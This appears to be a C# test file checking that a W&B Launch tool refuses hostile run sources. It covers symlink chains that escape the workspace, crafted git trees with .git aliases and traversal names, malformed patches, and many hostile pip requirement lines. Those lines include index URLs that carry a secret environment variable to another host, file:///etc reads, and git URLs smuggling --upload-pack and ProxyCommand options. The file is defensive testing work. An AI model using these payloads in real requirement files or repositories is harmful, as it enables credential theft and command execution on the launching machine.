using System.Diagnostics;
using System.Runtime.InteropServices;
using System.Text;
using System.Text.Json.Nodes;
using FsCheck;
using FsCheck.Fluent;
using LibGit2Sharp;
using WandbLaunch.Agents;
using WandbLaunch.Foundation;
using WandbLaunch.Import;
using WandbLaunch.Model;
using WandbLaunch.Python;
using WandbLaunch.Sources;
using WandbLaunch.Wandb;

namespace WandbLaunch.Tests;

/// <summary>
/// Sources made to reach the machine that launches them: links, names, patches, requirements. Each attack is judged by
/// what is on the disk or on the network afterwards, never by what the code believes.
/// </summary>
public sealed class HostileSourceTests
{
    private const string Secret = "machine-example-password-hunter2";

    /// <summary>A machine's disk: what is outside must stay as it is, whatever is written into the cache beside it.</summary>
    private sealed class Disk
    {
        internal string Root { get; } = Fixture.NewFolder("canary");
        internal string Outside { get; }
        internal LaunchCache Cache { get; }
        private readonly string _before;

        internal Disk()
        {
            Outside = Directory.CreateDirectory(Path.Combine(Root, "outside")).FullName;
            Directory.CreateDirectory(Path.Combine(Outside, "deep"));
            File.WriteAllText(Path.Combine(Outside, "f"), Secret);
            File.WriteAllText(Path.Combine(Outside, "deep", "f"), Secret);
            File.WriteAllText(Path.Combine(Root, "f"), Secret);
            Cache = new LaunchCache(Directory.CreateDirectory(Path.Combine(Root, "cache")).FullName);
            _before = Snapshot();
        }

        internal void AssertUntouched() => Assert.Equal(_before, Snapshot());

        /// <summary>Tries, as a program would, to write through every link of a folder; nothing outside may change.</summary>
        internal void AssertNoWayOut(string folder)
        {
            AssertUntouched();
            foreach (var path in Links(folder))
            {
                foreach (var through in new[] { path, path + "/zz", path + "/f", path + "/../zz" })
                {
                    try
                    {
                        File.AppendAllText(through, "written");
                    }
                    catch (Exception e) when (e is IOException or UnauthorizedAccessException)
                    {
                        // Leads to a folder, or nowhere.
                    }
                }

                if (RealPath(path) is { } real)
                {
                    Assert.StartsWith(RealPath(folder) + "/", real + "/", StringComparison.Ordinal);
                }
            }

            AssertUntouched();
        }

        private static IEnumerable<string> Links(string folder) =>
            Directory
                .EnumerateFileSystemEntries(
                    folder,
                    "*",
                    new EnumerationOptions { RecurseSubdirectories = false, AttributesToSkip = 0 }
                )
                .ToArray()
                .SelectMany(p =>
                    new FileInfo(p).LinkTarget is not null ? [p]
                    : Directory.Exists(p) ? Links(p)
                    : []
                );

        private string Snapshot() =>
            string.Join(
                "\n",
                Directory
                    .EnumerateFileSystemEntries(Root)
                    .Concat(Directory.EnumerateFileSystemEntries(Outside, "*", SearchOption.AllDirectories))
                    .Where(p => !p.EndsWith("/cache", StringComparison.Ordinal))
                    .Order(StringComparer.Ordinal)
                    .Select(p => p + "=" + (File.Exists(p) ? File.ReadAllText(p) : ""))
            );
    }

    // Text goes as UTF-8, which CA2101 does not know.
#pragma warning disable CA2101
    [DllImport("libc", SetLastError = true)]
    private static extern IntPtr realpath([MarshalAs(UnmanagedType.LPUTF8Str)] string path, IntPtr buffer);
#pragma warning restore CA2101

    private static string? RealPath(string path)
    {
        var found = realpath(path, IntPtr.Zero);
        return found == 0 ? null : Marshal.PtrToStringUTF8(found);
    }

    // "q" is ".", so that each word "q" counts one folder deeper and is none.
    private static string Chain(string target) =>
        string.Concat(Enumerable.Repeat("q/", 30))
        + string.Concat(Enumerable.Repeat("../", 30))
        + target.TrimStart('/');

    private static string NewRepository(params (string Path, string Content)[] files)
    {
        var folder = Fixture.NewFolder("hostile-repo");
        Fixture.Git(folder, "init", "-q", "-b", "main");
        foreach (var (path, content) in files)
        {
            var full = Path.Combine(folder, path);
            Directory.CreateDirectory(Path.GetDirectoryName(full)!);
            if (content.StartsWith("-> ", StringComparison.Ordinal))
            {
                File.CreateSymbolicLink(full, content[3..]);
            }
            else
            {
                File.WriteAllText(full, content);
            }
        }

        Fixture.Git(folder, "add", "-A");
        Fixture.Git(folder, "commit", "-q", "-m", "one");
        return folder;
    }

    private static string RunOf(
        string repository,
        string program,
        string? patch = null,
        string? saved = null,
        string id = "hostile1"
    )
    {
        var folder = Fixture.NewFolder("offline-run-20260101_000000");
        folder = Path.Combine(folder, "run-20260101_000000-" + id);
        Directory.CreateDirectory(Path.Combine(folder, "files"));
        if (patch is not null)
        {
            File.WriteAllText(Path.Combine(folder, "files", "diff.patch"), patch);
        }

        if (saved is not null)
        {
            var path = Path.Combine(folder, "files", "code", program);
            Directory.CreateDirectory(Path.GetDirectoryName(path)!);
            File.WriteAllText(path, saved);
        }

        File.WriteAllText(Path.Combine(folder, "files", "requirements.txt"), "");
        File.WriteAllText(
            Path.Combine(folder, "files", "wandb-metadata.json"),
            new JsonObject
            {
                ["python"] = "3",
                ["program"] = program,
                ["codePath"] = program,
                ["args"] = new JsonArray(),
                ["git"] = new JsonObject
                {
                    ["remote"] = new Uri(repository).AbsoluteUri,
                    ["commit"] = Fixture.Git(repository, "rev-parse", "HEAD").Trim(),
                },
            }.ToJsonString()
        );
        return folder;
    }

    private static Task<ResolvedRun> Resolve(string uri, Disk disk) =>
        SourceCatalog.ResolveAsync(
            new LaunchConfig { Uri = uri },
            new ResolveContext(Fixture.Root, disk.Cache, async _ => await Fixture.ConnectAsync())
            {
                DataFolder = new LaunchEnvironment().DataFolder,
                ScratchFolder = () => Directory.CreateTempSubdirectory("wandblaunch-test-").FullName,
            },
            default
        );

    private static async Task<LaunchException> Refused(Disk disk, string uri, params string[] ids)
    {
        var error = await Record.ExceptionAsync(() => Resolve(uri, disk));
        disk.AssertUntouched();
        var refusal = Assert.IsType<LaunchException>(error);
        Assert.True(ids.Contains(refusal.ErrorId), refusal.ErrorId + ": " + refusal.Message);
        Assert.DoesNotContain(Secret, refusal.ToString() + refusal.Target, StringComparison.Ordinal);
        return refusal;
    }

    private static void NeedLinks() => Assert.SkipWhen(OperatingSystem.IsWindows(), "needs symbolic links");

    private static string LinkPatch(params (string Path, string Target)[] links) =>
        string.Concat(
            links.Select(l =>
                $"diff --git a/{l.Path} b/{l.Path}\nnew file mode 120000\n--- /dev/null\n+++ b/{l.Path}\n@@ -0,0 +1 @@\n+{l.Target}\n\\ No newline at end of file\n"
            )
        );

    [Fact]
    public async Task Saved_code_is_not_written_through_a_chain_of_links()
    {
        NeedLinks();
        var disk = new Disk();
        var repository = NewRepository(
            ("requirements.txt", ""),
            ("main.py", ""),
            ("q", "-> ."),
            ("d", "-> " + Chain(disk.Outside))
        );
        var error = await Refused(
            disk,
            RunOf(repository, "d/x.py", saved: "print('owned')"),
            "LinkOutside",
            "PathOutside"
        );
        Assert.Contains("'d'", error.Message, StringComparison.Ordinal);

        // A link that is harmless itself is no way for the saved code either.
        var inside = NewRepository(("requirements.txt", ""), ("lib/main.py", "kept"), ("d", "-> lib"));
        await Refused(disk, RunOf(inside, "d/x.py", saved: "print('owned')"), "PathOutside");
    }

    [Fact]
    public async Task A_patch_alone_brings_no_chain_of_links()
    {
        NeedLinks();
        var disk = new Disk();
        var repository = NewRepository(("requirements.txt", ""), ("main.py", ""));
        await Refused(
            disk,
            RunOf(repository, "d/x.py", LinkPatch(("q", "."), ("d", Chain(disk.Outside))), "print('owned')"),
            "LinkOutside",
            "PatchUnsafe",
            "PathOutside"
        );

        // One half of the chain is the commit's, where it leads to nothing; the other comes with the patch.
        var half = NewRepository(("requirements.txt", ""), ("main.py", ""), ("a/b/q", "-> ."), ("x", "-> later/../f"));
        var error = await Refused(disk, RunOf(half, "main.py", LinkPatch(("later", "a/b"))), "LinkOutside");
        Assert.Contains("through another link, 'later'", error.Message, StringComparison.Ordinal);
        await Refused(
            disk,
            RunOf(half, "main.py", LinkPatch(("a/b/d", Chain(disk.Outside)))),
            "LinkOutside",
            "PatchUnsafe"
        );
    }

    [Theory]
    [InlineData("requirements.txt")]
    [InlineData("runtime.txt")]
    [InlineData(".python-version")]
    [InlineData("main.py")]
    public async Task A_file_of_the_machine_does_not_come_back_through_a_link(string name)
    {
        NeedLinks();
        var disk = new Disk();
        File.WriteAllText(Path.Combine(disk.Root, "cache", "host"), "--" + Secret + "\n");
        foreach (
            var target in new[]
            {
                Path.Combine(disk.Root, "cache", "host"),
                Chain(Path.Combine(disk.Root, "cache", "host")),
            }
        )
        {
            List<(string, string)> files = [("q", "-> ."), (name, "-> " + target)];
            files.AddRange(new[] { "requirements.txt", "main.py" }.Where(n => n != name).Select(n => (n, "")));
            await Refused(disk, new Uri(NewRepository([.. files])).AbsoluteUri, "LinkOutside");
        }
    }

    [Fact]
    public async Task Names_that_are_gits_own_folder_somewhere_and_trees_that_hide_a_link_are_refused()
    {
        var disk = new Disk();
        var repository = NewRepository(("requirements.txt", ""), ("main.py", ""));
        var file = Fixture.Git(repository, "rev-parse", "HEAD:main.py").Trim();
        var folder = WriteTree(repository, ("100644", "x", file));
        var link = WriteBlob(repository, disk.Outside);
        var here = WriteBlob(repository, ".");
        var trees = new List<string>
        {
            WriteTree(repository, ("40000", ".GIT", folder)),
            WriteTree(repository, ("40000", "git~1", folder)),
            WriteTree(repository, ("40000", "GIT~1", folder)),
            WriteTree(repository, ("40000", ".g\u200cit", folder)),
            WriteTree(repository, ("40000", ".git ", folder)),
            WriteTree(repository, ("40000", ".git . .", folder)),
            WriteTree(repository, ("100644", ".git::$INDEX_ALLOCATION", file)),
            WriteTree(repository, ("100644", ".git:x", file)),
            WriteTree(repository, ("100644", "a\\..\\..\\x", file)),
            WriteTree(repository, ("40000", "..", folder)),
            WriteTree(repository, ("100644", "../x", file)),
            WriteTree(repository, ("120000", "d", here), ("40000", "d", folder)),
            WriteTree(repository, ("120000", "D", here), ("40000", "d", folder)),
            WriteTree(repository, ("120000", "e\u0301", here), ("40000", "\u00e9", folder)),
            WriteTree(repository, ("120000", "d", link)),
            WriteTree(repository, ("120000", "Q", here), ("120000", "x", WriteBlob(repository, "q/../../f"))),
            WriteTree(repository, ("120000", "x", WriteBlob(repository, "a\0b"))),
            WriteTree(
                repository,
                ("120000", ".gitmodules", WriteBlob(repository, "[submodule \"x\"]\npath=m\nurl=/etc")),
                ("160000", "m", new string('1', 40))
            ),
        };
        var deep = folder;
        for (var i = 0; i < 3000; i++)
        {
            deep = WriteTree(repository, ("40000", "d", deep));
        }

        trees.Add(deep);
        foreach (var tree in trees)
        {
            var commit = Fixture.Git(repository, "commit-tree", tree, "-m", "x").Trim();
            Fixture.Git(repository, "update-ref", "refs/heads/main", commit);
            var uri = new Uri(repository).AbsoluteUri + "@" + commit;
            var error = await Record.ExceptionAsync(() => Resolve(uri, disk));
            Assert.True(error is LaunchException, Fixture.Git(repository, "ls-tree", tree) + error);
            Assert.Contains(
                ((LaunchException)error).ErrorId,
                new[] { "PathOutside", "LinkOutside", "PathTooDeep", "SubmoduleInvalid" }
            );
            disk.AssertUntouched();
        }
    }

    // As the attacker's own program makes them: no check of git's stands before it.
    private static string WriteTree(string repository, params (string Mode, string Name, string Id)[] entries)
    {
        using var content = new MemoryStream();
        foreach (var (mode, name, id) in entries)
        {
            content.Write(Encoding.UTF8.GetBytes($"{mode} {name}\0"));
            content.Write(Convert.FromHexString(id));
        }

        return WriteObject(repository, "tree", content.ToArray());
    }

    private static string WriteBlob(string repository, string text) =>
        WriteObject(repository, "blob", Encoding.UTF8.GetBytes(text));

    // A loose object: "type size NUL content", deflated, by its SHA-1.
    private static string WriteObject(string repository, string type, byte[] content)
    {
        byte[] whole = [.. Encoding.ASCII.GetBytes($"{type} {content.Length}\0"), .. content];
#pragma warning disable CA5350 // git's own name for content.
        var id = Convert.ToHexString(System.Security.Cryptography.SHA1.HashData(whole)).ToLowerInvariant();
#pragma warning restore CA5350
        var path = Path.Combine(repository, ".git", "objects", id[..2], id[2..]);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        if (!File.Exists(path))
        {
            using var file = File.Create(path);
            using var deflate = new System.IO.Compression.ZLibStream(
                file,
                System.IO.Compression.CompressionLevel.Fastest
            );
            deflate.Write(whole);
        }

        return id;
    }

    [Fact]
    public async Task A_notebooks_script_is_not_written_through_a_link()
    {
        NeedLinks();
        var disk = new Disk();
        const string Notebook = """{"cells": [{"cell_type": "code", "source": "print('owned')"}]}""";
        await Refused(
            disk,
            RunOf(
                NewRepository(
                    ("requirements.txt", ""),
                    ("nb.ipynb", Notebook),
                    ("q", "-> ."),
                    ("nb.py", "-> " + Chain(Path.Combine(disk.Outside, "f")))
                ),
                "nb.ipynb"
            ),
            "LinkOutside"
        );

        var run = await Resolve(
            RunOf(
                NewRepository(
                    ("requirements.txt", ""),
                    ("nb.ipynb", Notebook),
                    ("victim.py", "kept"),
                    ("nb.py", "-> victim.py")
                ),
                "nb.ipynb"
            ),
            disk
        );
        Assert.Equal("kept", File.ReadAllText(Path.Combine(run.Workspace!, "victim.py")));
        Assert.Null(new FileInfo(Path.Combine(run.Workspace!, "nb.py")).LinkTarget);
        Assert.Contains("owned", File.ReadAllText(Path.Combine(run.Workspace!, "nb.py")), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Links_inside_a_source_are_kept_and_read()
    {
        NeedLinks();
        var disk = new Disk();
        var run = await Resolve(
            new Uri(
                NewRepository(
                    ("reqs/base.txt", "numpy==1.0\n"),
                    ("reqs/sub/more.txt", "-r ../base.txt\n"),
                    ("reqs/all.txt", "-r reqs/sub/more.txt\n"),
                    ("requirements.txt", "-> reqs/all.txt"),
                    ("src/app/real.py", ""),
                    ("src/app/up.py", "-> ../app/real.py"),
                    ("main.py", "-> src/app/real.py"),
                    ("later", "-> made/at/run/time")
                )
            ).AbsoluteUri,
            disk
        );
        Assert.Equal(["numpy==1.0"], run.Requirements.Lines);
        Assert.Equal("src/app/real.py", new FileInfo(Path.Combine(run.Workspace!, "main.py")).LinkTarget);
        Assert.Equal("../app/real.py", new FileInfo(Path.Combine(run.Workspace!, "src/app/up.py")).LinkTarget);
        disk.AssertNoWayOut(run.Workspace!);
    }

    [Fact]
    public async Task A_launched_folder_takes_no_link_along_that_leaves_it_directly_or_by_others()
    {
        NeedLinks();
        var disk = new Disk();
        var folder = Fixture.NewFolder("links");
        File.WriteAllText(Path.Combine(folder, "main.py"), "");
        File.WriteAllText(Path.Combine(folder, "requirements.txt"), "");
        File.CreateSymbolicLink(Path.Combine(folder, "kept.py"), "main.py");
        Directory.CreateSymbolicLink(Path.Combine(folder, "q"), ".");
        Directory.CreateSymbolicLink(Path.Combine(folder, "direct"), disk.Outside);
        Directory.CreateSymbolicLink(Path.Combine(folder, "chain"), Chain(disk.Outside));
        File.CreateSymbolicLink(Path.Combine(folder, ".dockerignore"), Path.Combine(disk.Outside, "f"));
        var error = await Record.ExceptionAsync(() => Resolve(folder, disk));
        Assert.Equal("PathOutside", Assert.IsType<LaunchException>(error).ErrorId);
        File.Delete(Path.Combine(folder, ".dockerignore"));

        var run = await Resolve(folder, disk);
        disk.AssertNoWayOut(run.Workspace!);
        Assert.True(File.Exists(Path.Combine(run.Workspace!, "kept.py")));
        Assert.Equal(2, run.Warnings.Count(w => w.Contains("left out", StringComparison.Ordinal)));
        Assert.False(Path.Exists(Path.Combine(run.Workspace!, "chain")));
    }

    [Fact]
    public async Task Files_of_the_machine_are_not_imported_with_a_run_folder()
    {
        NeedLinks();
        var disk = new Disk();
        var secret = Path.Combine(disk.Outside, "f");
        var folder = RunOf(NewRepository(("main.py", "")), "main.py", id: "imphost1");
        var files = Path.Combine(folder, "files");
        File.WriteAllText(Path.Combine(files, "good.txt"), "good");
        File.CreateSymbolicLink(Path.Combine(files, "netrc"), secret);
        Directory.CreateSymbolicLink(Path.Combine(files, "etc"), disk.Outside);
        Directory.CreateSymbolicLink(Path.Combine(files, "q"), ".");
        Directory.CreateSymbolicLink(Path.Combine(files, "chain"), Chain(disk.Outside));
        using var connection = await Fixture.ConnectAsync();
        var run = await RunFolderImport.ImportAsync(
            connection.Api,
            folder,
            "local",
            "hostile",
            "local",
            Foundation.CallbackProgress.None,
            default
        );
        var names = (await connection.Api.FilesAsync(run, null, default)).Select(f => f.Name).ToList();

        Assert.Contains("good.txt", names);
        Assert.DoesNotContain(
            names,
            n => n.Contains("netrc", StringComparison.Ordinal) || n.Contains("/f", StringComparison.Ordinal)
        );

        // A file that is read for its values, and the whole folder.
        foreach (var name in new[] { "config.yaml", "wandb-summary.json" })
        {
            File.WriteAllText(
                Path.Combine(disk.Root, "cache", "values"),
                "{\"password\": {\"value\": \"" + Secret + "\"}}"
            );
            File.CreateSymbolicLink(Path.Combine(files, name), Path.Combine(disk.Root, "cache", "values"));
            var error = await Record.ExceptionAsync(() =>
                RunFolderImport.ImportAsync(
                    connection.Api,
                    folder,
                    "local",
                    "hostile",
                    "local",
                    Foundation.CallbackProgress.None,
                    default
                )
            );
            Assert.Equal("PathOutside", Assert.IsType<LaunchException>(error).ErrorId);
            File.Delete(Path.Combine(files, name));
        }

        Directory.Move(files, Path.Combine(disk.Root, "cache", "files"));
        Directory.CreateSymbolicLink(files, Path.Combine(disk.Root, "cache", "files"));
        Assert.Equal(
            "PathOutside",
            Assert
                .IsType<LaunchException>(
                    await Record.ExceptionAsync(() =>
                        RunFolderImport.ImportAsync(
                            connection.Api,
                            folder,
                            "local",
                            "hostile",
                            "local",
                            Foundation.CallbackProgress.None,
                            default
                        )
                    )
                )
                .ErrorId
        );
    }

    [Fact]
    public async Task An_agent_for_containers_writes_nothing_outside_for_a_queued_run()
    {
        NeedLinks();
        var disk = new Disk();
        var repository = NewRepository(
            ("requirements.txt", ""),
            ("main.py", ""),
            ("q", "-> ."),
            ("d", "-> " + Chain(disk.Outside))
        );
        using var connection = await WandbConnection.OpenAsync(
            WandbSettings.Resolve(
                new LaunchEnvironment(),
                Fixture.Root,
                Fixture.Server.Url,
                Fixture.Key,
                null,
                "agents"
            ),
            null,
            default
        );
        var run = await RunFolderImport.ImportAsync(
            connection.Api,
            RunOf(repository, "d/x.py", saved: "print('owned')", id: "agenthit"),
            "local",
            "agents",
            "local",
            Foundation.CallbackProgress.None,
            default
        );
        var queue = "hostile-" + Guid.NewGuid().ToString("n")[..6];
        await connection.Queues.CreateAsync(new NewQueue("local", "model-registry", queue, "PROJECT"), default);
        await connection.Queues.PushAsync(
            "local",
            "model-registry",
            queue,
            null,
            [
                new QueuePush(
                    new JsonObject
                    {
                        ["uri"] = $"{Fixture.Server.Url}/local/agents/runs/{run.Id}",
                        ["resource"] = "local-container",
                        ["entity"] = "local",
                        ["project"] = "agents",
                    }
                ),
            ],
            default
        );
        using var agent = await LaunchAgent.StartAsync(
            AgentConfig.Resolve(
                new LaunchEnvironment(),
                null,
                (JsonObject)
                    JsonNode.Parse(
                        $$"""{ "name": "hostile", "queues": "{{queue}}", "stop_when_empty": true, "no_install": true, "policy": { "git_hosts": ["file"] } }"""
                    )!
            ),
            connection,
            new AgentCallbacks { Happened = _ => { } },
            default
        );
        await agent.RunAsync().WaitAsync(TimeSpan.FromSeconds(120));
        disk.AssertUntouched();
        var items = new List<WandbLaunchQueueItem>();
        await foreach (
            var item in connection.Queues.ItemsAsync(
                await connection.Queues.GetAsync("local", "model-registry", queue, null, default),
                [],
                default
            )
        )
        {
            items.Add(item);
        }

        Assert.Equal(QueueItemState.Failed, Assert.Single(items).State);
        Assert.Contains("'d/x.py' is refused", items[0].Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("@@ -1,99999999999 +1 @@\n x\n")]
    [InlineData("@@ -1 +1,99999999999999999999999 @@\n x\n")]
    [InlineData("@@ -99999999999,1 +1,1 @@\n x\n")]
    [InlineData("@@ -1,2147483648 +1,1 @@\n x\n")]
    [InlineData("@@ -1,-5 +1,-5 @@\n x\n")]
    [InlineData("@@ -1,\u0665 +1,\u0665 @@\n x\n")]
    [InlineData("@@ -1,5 +1 @@\n x\n")]
    [InlineData("@@ -0,0 +0,0 @@\n")]
    public async Task A_broken_patch_is_a_named_error(string hunk)
    {
        var disk = new Disk();
        var repository = NewRepository(("requirements.txt", ""), ("main.py", "x\n"));
        await Refused(
            disk,
            RunOf(repository, "main.py", "diff --git a/main.py b/main.py\n--- a/main.py\n+++ b/main.py\n" + hunk),
            "PatchInvalid",
            "PatchDoesNotApply"
        );
        await Refused(
            disk,
            RunOf(repository, "main.py", "diff --git \"a/\\3zz\\777\" \"b/\\9\"\n--- \"a/\\3\n+++ \"\n" + hunk),
            "PatchInvalid",
            "PatchDoesNotApply",
            "PatchUnsafe"
        );
    }

    // What the real pip does with each of these was tried: every one makes it send a variable or a file of the machine
    // to another host, read a file of the machine, or take an option that changes what the machine's owner set.
    public static TheoryData<string> Requirements =>
        [
            "--index-u {0}/simple\nabc\n",
            "--extra-index {0}/simple\nabc\n",
            "--find {0}/links\nabc\n",
            "-f{0}/glued\nabc\n",
            "-f /etc\nabc\n",
            "-f/etc\nabc\n",
            "--find-links file:///etc#https://x\nabc\n",
            "--find-links=https://ok.invalid/ file:/etc\nabc\n",
            "--pre --find-links {0}/two\nabc\n",
            "--index-url {0}/${{LAUNCH_TEST_SECRET}}/simple\nabc\n",
            "--index-url \"{0}/q/${{LAUNCH_TEST_SECRET}}\"\nabc\n",
            "--extra-index-url https://${{LAUNCH_TEST_SECRET}}@h.invalid/simple\nabc\n",
            "${{LAUNCH_TEST_SECRET}}\n",
            "abc-${{LAUNCH_TEST_SECRET}}\n",
            "abc @ https://h.invalid/${{LAUNCH_TEST_SECRET}}.whl\n",
            "--index-url {0}/simple\n-rwords\n",
            "--req words\n",
            "--requirement=words --pre\n",
            "abc@file:///etc/hostname\n",
            "abc @ FILE:///etc/hostname\n",
            "file:///etc/hostname\n",
            "x.whl\n",
            "x.whl ; python_version > '2'\n",
            "x.tar.gz[extra]\n",
            "./x\n",
            "sub/x.whl\n",
            "sub/../x.whl ; python_version > '2'\n",
            "~/x\n",
            "abc --config-settings=a=b\n",
            "abc ; python_version > '2' --config-settings=a=b\n",
            "abc --global-option=x\n",
            "abc\u000b--find-links {0}/vt\n",
            "abc\u2028--find-links {0}/u2028\n",
            "abc\u0085--find-links {0}/nel\n",
            "abc\r--find-links {0}/cr\n",
            "# c \\\n--find-links {0}/comment\n",
            "--find-lin\\\nks {0}/cont\nabc\n",
            "# coding: utf-7\n--find-links {0}/utf7+AC8-x\n",
            "--trusted-host 127.0.0.1 --extra-index-url {0}/trusted\nabc\n",
            "-e {0}/editable#egg=x\n",
            "-e /etc\n",
            "-e file:///etc#egg=x\n",
            "git+file:///etc\n",
            "git+https://h.invalid/x@--upload-pack=touch\n",
            "git+ssh://-oProxyCommand=touch/x\n",
            "abc @ git+https://h.invalid/-x\n",
            "--proxy {0}\nabc\n",
            "--cert /etc/hostname\nabc\n",
            "--log /tmp/launch-test-log\nabc\n",
            "--use-feature=x;y\n",
        ];

    [Theory]
    [MemberData(nameof(Requirements))]
    public async Task The_real_pip_asks_no_other_host_and_reads_no_file_for_a_requirement(string text)
    {
        using var other = new Index();
        using var own = new Index();
        var folder = Fixture.NewFolder("pip");
        foreach (var name in new[] { "words", "x", "x.whl", "x.tar.gz" })
        {
            File.WriteAllText(Path.Combine(folder, name), "");
        }

        File.CreateSymbolicLink(Path.Combine(folder, "real-words"), "words");
        File.Delete(Path.Combine(folder, "words"));
        var host = Path.Combine(Fixture.NewFolder("host"), "words");
        File.WriteAllText(host, Secret + "\n");
        File.CreateSymbolicLink(Path.Combine(folder, "words"), host);
        File.WriteAllText(
            Path.Combine(folder, "requirements.txt"),
            string.Format(System.Globalization.CultureInfo.InvariantCulture, text, other.Url)
        );
        RequirementSet set;
        try
        {
            set = RequirementSet.Create(null, folder);
        }
        catch (LaunchException e)
        {
            Assert.Contains(e.ErrorId, new[] { "RequirementRefused", "PathOutside" });
            Assert.DoesNotContain("LAUNCH_TEST", e.Message + e.Target, StringComparison.Ordinal);
            Assert.DoesNotContain(other.Url, e.Message + e.Target, StringComparison.Ordinal);
            Assert.DoesNotContain(Secret, e.Message + e.Target, StringComparison.Ordinal);
            return;
        }

        Assert.DoesNotContain(set.Warnings, w => w.Contains("hostname", StringComparison.Ordinal));
        var list = Path.Combine(folder, "list.txt");
        File.WriteAllText(list, set.Text, new UTF8Encoding(false));
        var start = new ProcessStartInfo("python3")
        {
            WorkingDirectory = folder,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        };
        foreach (
            var word in new[]
            {
                "-m",
                "pip",
                "install",
                "--dry-run",
                "--no-deps",
                "--retries",
                "0",
                "--target",
                folder + "/t",
                "-r",
                list,
            }
        )
        {
            start.ArgumentList.Add(word);
        }

        start.Environment["LAUNCH_TEST_SECRET"] = Secret;
        start.Environment["PIP_INDEX_URL"] = own.Url + "/own";
        start.Environment["PIP_TRUSTED_HOST"] = "127.0.0.1";
        start.Environment["PIP_CONFIG_FILE"] = "/dev/null";
        start.Environment["PIP_DISABLE_PIP_VERSION_CHECK"] = "1";
        using var pip = Process.Start(start)!;
        var output = pip.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        var errors = await pip.StandardError.ReadToEndAsync(TestContext.Current.CancellationToken);
        errors += await output;
        await pip.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.Empty(other.Asked);
        Assert.DoesNotContain(own.Asked, a => a.Contains(Secret, StringComparison.Ordinal));
        Assert.DoesNotContain("hostname", errors, StringComparison.Ordinal);
        Assert.DoesNotContain("not a valid wheel", errors, StringComparison.Ordinal);
    }

    [Fact]
    public void Requirements_that_people_write_still_pass()
    {
        var folder = Fixture.NewFolder("pip");
        string[] good =
        [
            "numpy",
            "numpy>=1.0,<2",
            "numpy (>=1.0)",
            "torch==1.10.0+cu113 ; sys_platform == \"linux\" and python_version>='3.7'",
            "a[b,c]~=1.0",
            "x===1.1build1",
            "https://download.example.org/whl/cu113/torch-1.10-cp38-none-any.whl",
            "name @ https://example.org/x-1.0.tar.gz#sha256=00 ; python_version > '3'",
            "git+https://github.com/u/r.git@v1#egg=r&subdirectory=x",
            "r @ git+ssh://git@github.com/u/r.git@main",
            "--extra-index-url https://download.example.org/whl/cu113",
            "--find-links https://data.example.org/whl/torch.html",
            "--only-binary :all:",
            "--pre",
        ];
        File.WriteAllLines(Path.Combine(folder, "requirements.txt"), good);
        var set = RequirementSet.Create(null, folder);
        Assert.Equal(good, set.Lines);
        Assert.Empty(set.Warnings);

        // A list of what was installed may hold anything; what is unknown in it is left out.
        set = RequirementSet.Create("numpy==1.0\nsome thing odd\nx @ file:///croot/x\nodd=1.0\n", null);
        Assert.Equal(["numpy==1.0"], set.Lines);
        Assert.Equal(3, set.Warnings.Count);
        Assert.DoesNotContain(set.Warnings, w => w.Contains("odd", StringComparison.Ordinal));

        File.WriteAllBytes(
            Path.Combine(folder, "requirements.txt"),
            [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("numpy\n")]
        );
        Assert.Equal(["numpy"], RequirementSet.Create(null, folder).Lines);
    }

    /// <summary>A package index with nothing in it, that remembers what it was asked.</summary>
    private sealed class Index : IDisposable
    {
        private readonly System.Net.HttpListener _listener = new();
        internal System.Collections.Concurrent.ConcurrentQueue<string> Asked { get; } = [];
        internal string Url { get; }

        internal Index()
        {
            using (var free = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 0))
            {
                free.Start();
                Url = "http://127.0.0.1:" + ((System.Net.IPEndPoint)free.LocalEndpoint).Port;
            }

            _listener.Prefixes.Add(Url + "/");
            _listener.Start();
            _ = ServeAsync();
        }

        private async Task ServeAsync()
        {
            try
            {
                while (true)
                {
                    var context = await _listener.GetContextAsync();
                    Asked.Enqueue(context.Request.Url!.ToString());
                    context.Response.ContentType = "text/html";
                    context.Response.Close(Encoding.ASCII.GetBytes("<html></html>"), false);
                }
            }
            catch (Exception e) when (e is System.Net.HttpListenerException or ObjectDisposedException)
            {
                // Over.
            }
        }

        public void Dispose() => _listener.Close();
    }

    /// <summary>One entry of a random tree.</summary>
    public sealed record Entry(char Kind, string Path, string Target)
    {
        public override string ToString() => Kind == 'l' ? $"{Path} -> {Target}" : $"{Kind} {Path}";
    }

    // Few names, so that they meet; and the way out of a workspace: three folders up lies "outside".
    private static Gen<string> PathOf(int longest, params string[] words) =>
        Gen.Choose(1, longest).SelectMany(n => Gen.ArrayOf(Gen.Elements(words), n)).Select(w => string.Join('/', w));

    private static Gen<Entry> Entries =>
        from kind in Gen.Elements('f', 'l', 'l', 'd')
        from path in PathOf(3, "a", "b", "q", "d", "A", "e\u0301", "\u00e9")
        from target in Gen.OneOf(
            PathOf(8, "a", "b", "q", "d", "..", "..", ".", "Q", "outside", "f", "\u00e9", "\u00c9"),
            PathOf(6, "q", "a")
                .Select(p => p + string.Concat(p.Split('/').Select(_ => "/..")) + "/../../../outside/deep"),
            Gen.Elements(
                ".",
                "..",
                "a",
                "b",
                "q",
                "/etc",
                "../../../outside/f",
                "q/q/q/../../../../../../f",
                "",
                "a//b/./.."
            )
        )
        select new Entry(kind, path, target);

    private static void Hold<T>(Gen<T[]> gen, Action<T[]> property)
    {
        // The seed is printed and can be given, so that a failure in CI can be had again.
        var seed = ulong.TryParse(Environment.GetEnvironmentVariable("WANDBLAUNCH_TEST_SEED"), out var given)
            ? given
            : (ulong)Random.Shared.NextInt64();
        var count = int.TryParse(Environment.GetEnvironmentVariable("WANDBLAUNCH_TEST_CASES"), out var cases)
            ? cases
            : 1000;
        TestContext.Current.TestOutputHelper?.WriteLine($"WANDBLAUNCH_TEST_SEED={seed}");
        var shrink = Arb.From(gen, values => values.Select((_, i) => values.Where((_, k) => k != i).ToArray()));
        Check.One(
            Config.QuickThrowOnFailure.WithMaxTest(count).WithReplay(seed, 7),
            Prop.ForAll(
                shrink,
                values =>
                {
                    property(values);
                    return true;
                }
            )
        );
    }

    private static (Disk Disk, GitMirror Mirror, string Remote) Place()
    {
        var disk = new Disk();
        const string Remote = "https://example.org/u/r.git";
        var mirror = new GitMirror(disk.Cache, Remote, null, null);
        Directory.CreateDirectory(mirror.Folder);
